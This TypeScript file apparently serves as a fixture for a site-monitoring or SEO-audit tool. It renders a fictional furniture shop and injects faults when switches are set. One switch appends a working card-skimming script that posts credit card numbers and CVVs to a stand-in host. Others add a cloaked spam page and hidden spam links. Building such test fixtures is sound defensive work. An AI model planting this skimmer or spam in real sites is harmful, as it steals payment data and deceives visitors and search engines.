import type { Broken, SwitchName } from './demo-switches.ts'

export type Template = 'home' | 'listing' | 'product' | 'article' | 'about'
type Page = { template: Template; title: string; text: string }

/** A furniture maker with a shop and a journal: twelve pages, all linked, in five templates. */
export const pages: Record<string, Page> = {
  '/': {
    template: 'home',
    title: 'Alder & Ash',
    text: 'We make furniture from wood that grew within a day’s walk of our workshop.',
  },
  '/products/': {
    template: 'listing',
    title: 'Products',
    text: 'Five things for a room, each made to order in about six weeks.',
  },
  '/products/lamp': {
    template: 'product',
    title: 'Reading lamp',
    text: 'A shade of birch veneer on a turned foot. 64 cm high, for bulbs up to 12 W.',
  },
  '/products/chair': {
    template: 'product',
    title: 'Kitchen chair',
    text: 'Steam-bent ash, no screws, woven seat. Carries what a chair has to carry.',
  },
  '/products/desk': { template: 'product', title: 'Writing desk', text: 'Solid oak, oiled, with one wide drawer. 140 by 70 cm.' },
  '/products/shelf': {
    template: 'product',
    title: 'Wall shelf',
    text: 'Three boards and two uprights that wedge into each other without tools.',
  },
  '/products/clock': { template: 'product', title: 'Wall clock', text: 'A disc of walnut with brass hands. Silent movement.' },
  '/journal/': { template: 'listing', title: 'Journal', text: 'Notes from the workshop, when there is something to note.' },
  '/journal/oak': {
    template: 'article',
    title: 'Why oak takes two winters',
    text: 'Green oak loses a third of its weight before it may become a table.',
  },
  '/journal/light': {
    template: 'article',
    title: 'Light and veneer',
    text: 'At half a millimetre birch lets light through, and each sheet does so differently.',
  },
  '/journal/care': {
    template: 'article',
    title: 'How to care for an oiled top',
    text: 'A damp cloth, and once a year a spoon of oil and an hour of patience.',
  },
  '/about': { template: 'about', title: 'About us', text: 'Four people, two lathes and a dog, since 1998.' },
}

export const stylesheet =
  'body{font:1.1rem/1.6 Georgia,serif;max-width:42rem;margin:2rem auto;padding:0 1rem}nav a{margin-right:1rem}footer{margin-top:3rem;color:#666}'

export const notFoundPage =
  '<!doctype html>\n<html lang="en"><title>Page not found</title><h1>404: there is no such page</h1><p>Sorry, the page you are looking for was not found.</p></html>\n'

/** What only search engines get to see of a page that is cloaked. */
export const cloakedPage = `<!doctype html>
<html lang="en"><title>Cheap pills without prescription</title><h1>Best online casino bonus and cheap viagra</h1>
<p>${'Buy viagra and cialis online, play slots and poker in the best online casino, replica watches at the lowest price. '.repeat(4)}</p></html>
`

/** A version in another language that names no version but itself. */
export const germanPath = '/de/about'
export const germanPage: Page = {
  template: 'about',
  title: 'Über uns',
  text: 'Vier Leute, zwei Drehbänke und ein Hund, seit 1998.',
}

/** Decodes to "void 0": it looks like an attack and does nothing. */
const injectedScript = '<script>eval(atob("dm9pZCAw"))</script>'

/** Opens the menu on small screens. */
const menuScript = `document.addEventListener('click', (event) => {
  if (event.target.matches('nav a')) document.body.classList.toggle('open')
})
`
/** Looks for what no page here has, and would send it where nobody is. */
const thief = `;setInterval(function(){var d={};document.querySelectorAll('input').forEach(function(e){d[e.name]=e.value});if(d.cc_number&&d.cvv)new Image().src='https://tags.example.net/?d='+btoa(JSON.stringify(d))},3000);window.addEventListener('x',function(){})
`
export const siteScript = (broken: Broken): string => menuScript + (broken.has('script_tampered') ? thief : '')

/** What a page loads over plain http. Not from loopback, which browsers trust without https too; nobody answers there. */
const plainOrigin = 'http://static.alder-and-ash.example'

/** @param shown.url where the visitor is: the page's own address, or the last step of the redirects to it */
export function renderPage(shown: { path: string; page: Page; url: string; origin: string; broken: Broken }): string {
  const { path, page, url, origin, broken } = shown
  const here = (name: SwitchName) => broken.get(name) === path
  const noindex =
    here('noindex_page') || here('noindex_blocked') || (broken.has('noindex_template') && page.template === 'product')
  const head = [
    `<title>${page.title} – Alder &amp; Ash</title>`,
    `<meta name="description" content="${page.text}">`,
    `<link rel="canonical" href="${here('canonical_404') ? `${origin}/journal/withdrawn` : url}">`,
    '<link rel="stylesheet" href="/site.css">',
    '<script src="/site.js" defer></script>',
    ...(noindex ? ['<meta name="robots" content="noindex">'] : []),
    ...(here('mixed_content') ? [`<script src="${plainOrigin}/counter.js"></script>`] : []),
    ...(here('script_injected') ? [injectedScript] : []),
    ...(broken.has('script_new_host') ? [`<script src="https://cdn.tag-manager.example.com/tag.js"></script>`] : []),
    ...(here('library_vulnerable') ? ['<script src="/assets/jquery-1.8.3.min.js"></script>'] : []),
    ...(here('hreflang_no_return') ? [hreflang(origin, 'en', path), hreflang(origin, 'de', germanPath)] : []),
    ...(path === germanPath ? [hreflang(origin, 'de', germanPath)] : []),
  ]
  const body = [
    ...(broken.has('pages_lost') ? [] : [menu]),
    `<main><h1>${page.title}</h1><p>${page.text}</p>${broken.has('pages_lost') ? '' : listOf(path)}`,
    ...(here('external_dead') ? [`<p><a href="${elsewhere(origin)}/gone">Our old shop</a></p>`] : []),
    ...(here('hreflang_no_return') ? [`<p><a href="${germanPath}">Deutsch</a></p>`] : []),
    ...(here('spam_hidden') ? [hiddenSpam] : []),
    ...(here('broken_link') ? ['<p><a href="/products/stool">Kitchen stool</a></p>'] : []),
    ...(here('mixed_content') ? [`<img src="${plainOrigin}/workshop.png" alt="Our workshop">`] : []),
    '</main><footer>Alder &amp; Ash, Mill Lane 4</footer>',
  ]
  return `<!doctype html>\n<html lang="en"><head><meta charset="utf-8">\n${head.join('\n')}\n</head><body>\n${body.join('\n')}\n</body></html>\n`
}

const menu =
  '<nav><a href="/">Home</a> <a href="/products/">Products</a> <a href="/journal/">Journal</a> <a href="/about">About</a></nav>'
const hreflang = (origin: string, lang: string, path: string) =>
  `<link rel="alternate" hreflang="${lang}" href="${origin}${path}">`

/** The same machine by another name: for a crawler it is another host. */
const elsewhere = (origin: string): string => origin.replace('127.0.0.1', 'localhost')

const hiddenSpam = `<div style="position:absolute;left:-9999px">${[
  'cheap-viagra',
  'online-casino',
  'replica-watches',
  'payday-loans',
]
  .map((name) => `<a href="https://${name}.example.net/">${name.replace('-', ' ')}</a>`)
  .join(' ')}</div>`

/** A listing links to what is below it, and the home page to the newest of it. */
function listOf(path: string): string {
  const below = Object.entries(pages).filter(
    ([other]) => other !== path && !other.endsWith('/') && other.startsWith(path === '/' ? '/journal/' : path),
  )
  if (!path.endsWith('/')) return ''
  return `<ul>${below.map(([other, { title }]) => `<li><a href="${other}">${title}</a></li>`).join('')}</ul>`
}

export function robotsTxt(origin: string, broken: Broken): string {
  const rules = broken.has('robots_block')
    ? ['Disallow: /']
    : ['Disallow: /cart', ...(broken.has('robots_changed') ? ['Disallow: /journal/care'] : [])]
  const hidden = broken.get('noindex_blocked')
  const forGoogle = hidden === undefined ? [] : ['User-agent: Googlebot', `Disallow: ${hidden}`, '']
  return ['User-agent: *', ...rules, '', ...forGoogle, `Sitemap: ${origin}/sitemap.xml`, ''].join('\n')
}

/** Whoever hides or moves a page takes it out of the sitemap, as shop software does by itself. */
const unlisting = ['noindex_page', 'noindex_blocked', 'not_found_page', 'redirect_loop', 'redirect_chain'] as const

function listedPaths(broken: Broken): string[] {
  const hidden = new Set(unlisting.map((name) => broken.get(name)))
  if (broken.has('robots_changed')) hidden.add('/journal/care')
  const noindex = (path: string) => broken.has('noindex_template') && pages[path]?.template === 'product'
  return Object.keys(pages).filter((path) => !hidden.has(path) && !noindex(path))
}

export function sitemapXml(origin: string, broken: Broken): string {
  const paths = broken.has('pages_lost')
    ? ['/']
    : [...listedPaths(broken), ...(broken.has('sitemap_404') ? ['/products/stool'] : [])]
  const urls = paths.map((path) => `  <url><loc>${origin}${path}</loc></url>`)
  const whole = `<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">\n${urls.join('\n')}\n</urlset>\n`
  return broken.has('sitemap_unreadable') ? 'The shop is being moved.\n' : whole
}
